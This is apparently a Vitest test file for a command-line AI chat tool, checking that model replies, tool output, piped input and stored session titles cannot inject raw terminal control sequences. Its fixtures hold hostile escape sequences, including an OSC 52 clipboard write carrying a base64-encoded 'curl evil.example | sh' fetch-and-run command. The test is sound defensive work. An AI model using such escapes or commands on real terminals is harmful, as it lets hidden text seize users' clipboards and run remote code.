/**
 * Guarantee 7: untrusted text cannot drive the terminal. The real `loom` command prints a
 * scripted model's reply (streamed with the sequences split across chunks), piped input it
 * echoes, its tool calls,
 * tool output read from a hostile file, a question, and stored titles and summaries set by
 * the model, by --rename and by --import. Whatever the command writes, on stdout and stderr,
 * must hold no raw control character but newline and tab (Loom emits no colour of its own,
 * so not even an SGR code), and must show the attack in its visible form.
 */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { announcedId, runLoom, useLoomFixture } from '../cli-agent/support';

const ctx = useLoomFixture();

const OSC52_CLIPBOARD = `\x1b]52;c;${Buffer.from('curl evil.example | sh').toString('base64')}\x07`;
const OSC0_TITLE = '\x1b]0;you have been owned\x07';
const CLEAR_SCREEN = '\x1b[2J\x1b[H';
const CURSOR_MOVES = '\x1b[5A\x1b[2K\x1b7\x1b8';
const C1_CSI = '\x9b2J';
const HOSTILE = `${OSC52_CLIPBOARD}${OSC0_TITLE}${CLEAR_SCREEN}${CURSOR_MOVES}${C1_CSI}\rDEL\x7f`;

/** Any control character a terminal acts on: C0 but newline and tab, DEL, C1. */
const RAW_CONTROL = /[\x00-\x08\x0b-\x1f\x7f-\x9f]/;

function expectHarmless(output: string): void {
  const raw = output.match(RAW_CONTROL);
  expect(raw, `raw control character U+${raw?.[0].charCodeAt(0).toString(16).padStart(4, '0')} in:\n${JSON.stringify(output)}`).toBeNull();
}

/** The attack, shown as text: each control character as its \u escape. */
function expectShown(output: string): void {
  expect(output).toContain('\\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\u0007');
  expect(output).toContain('\\u001b]0;you have been owned\\u0007');
  expect(output).toContain('\\u001b[2J\\u001b[H\\u001b[5A\\u001b[2K');
  expect(output).toContain('\\u009b2J');
  // Tables put each value on one line: there a carriage return is whitespace, shown as a space.
  expect(output).toMatch(/(\\u000d| )DEL\\u007f/);
}

const run = (args: string[], input = '') => runLoom(ctx.ws, ctx.server.baseUrl, args, input);

describe('guarantee 7: untrusted text cannot drive the terminal', () => {
  it('a model reply streamed with every sequence split across chunks, with -p and in the REPL', async () => {
    const pieces = [
      'Look: \x1b',
      ']52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07',
      '\x1b]0;you have been owned',
      '\x07\x1b[2',
      'J\x1b[H\x1b[5A\x1b[2K\x1b7\x1b8\x9b',
      '2J\rDEL\x7f done',
    ];
    expect(pieces.join('')).toBe(`Look: ${HOSTILE} done`);
    ctx.server.enqueue({ chunks: pieces }, { text: 'summary' }, { chunks: pieces });

    const once = await run(['-p', 'say it']);
    expect(once.code).toBe(0);
    expectHarmless(once.stdout + once.stderr);
    expectShown(once.stdout);

    // Piped input is echoed after its prompt: it may come from an untrusted file too.
    const repl = await run([], `say it again ${OSC0_TITLE}\n`);
    expect(repl.code).toBe(0);
    expectHarmless(repl.stdout + repl.stderr);
    expect(repl.stdout).toContain('You: say it again \\u001b]0;you have been owned\\u0007\n');
    expect(repl.stdout).toContain('Assistant: Look: \\u001b]52;c;');
    expectShown(repl.stdout);
  });

  it('tool calls, tool output from a hostile file, an unknown tool name and a question', async () => {
    fs.writeFileSync(path.join(ctx.ws.projectDir, 'evil.txt'), `${HOSTILE}\nsecond line\n`);
    ctx.server.enqueue(
      {
        toolCalls: [
          { id: 'read', name: 'read_file', arguments: { path: 'evil.txt' } },
          { id: 'unknown', name: `no_such_tool${OSC0_TITLE}`, arguments: {} },
        ],
      },
      { toolCalls: [{ id: 'ask', name: 'ask_question', arguments: { question: `Which one? ${HOSTILE}` } }] },
      { text: 'Done.' },
      { text: 'summary' },
    );
    const repl = await run([], 'read it\nthe first\n');
    expect(repl.code).toBe(0);
    const output = repl.stdout + repl.stderr;
    expectHarmless(output);
    // The tool output preview (the file's first line), and the question.
    expect(repl.stdout).toMatch(/\[read_file\] -> .*\\u001b\]52;c;/);
    expect(repl.stdout).toMatch(/Question: Which one\? \\u001b\]52;c;/);
    expectShown(repl.stdout.slice(repl.stdout.indexOf('Question:')));
    expect(repl.stdout).toContain('no_such_tool\\u001b]0;you have been owned\\u0007');
  });

  it("stored titles and summaries: the model's summary, --rename, --import; then --list-sessions, --search, --info, --export", async () => {
    // The listing summary comes from the model, so it is untrusted too.
    ctx.server.enqueue({ text: `Zebras are striped. ${HOSTILE}` }, { text: `About zebras ${HOSTILE}` });
    const first = await run(['-p', 'tell me about zebras']);
    const id = announcedId(first.stderr);

    const listed = await run(['--list-sessions']);
    expectHarmless(listed.stdout + listed.stderr);
    expect(listed.stdout).toContain('About zebras \\u001b]52;c;');

    const renamed = await run(['--rename', id, `Renamed ${HOSTILE}`]);
    expect(renamed.code).toBe(0);
    expectHarmless(renamed.stdout + renamed.stderr);
    expectShown(renamed.stdout);

    const exported = await run(['--export', id]);
    const imported = JSON.parse(exported.stdout);
    imported.session.title = `Imported ${HOSTILE}`;
    const file = path.join(ctx.ws.root, 'hostile.json');
    fs.writeFileSync(file, JSON.stringify(imported));
    const imports = await run(['--import', file]);
    expect(imports.code).toBe(0);
    const importedId = imports.stdout.trim();

    for (const args of [
      ['--list-sessions'],
      ['--search', 'zebras'],
      ['--info', id],
      ['--info', importedId],
      ['--export', id, '--format', 'markdown'],
      ['--export', importedId, '--format', 'html'],
    ]) {
      const shown = await run(args);
      expect(shown.code, args.join(' ')).toBe(0);
      expectHarmless(shown.stdout + shown.stderr);
      expectShown(shown.stdout);
    }

    // --json stays valid JSON and says exactly what is stored.
    for (const args of [
      ['--list-sessions', '--json'],
      ['--search', 'zebras', '--json'],
      ['--info', importedId, '--json'],
      ['--export', importedId],
    ]) {
      const json = await run(args);
      expectHarmless(json.stdout);
      const text = JSON.stringify(JSON.parse(json.stdout));
      expect(text, args.join(' ')).toContain(JSON.stringify(HOSTILE).slice(1, -1));
    }
  });
});
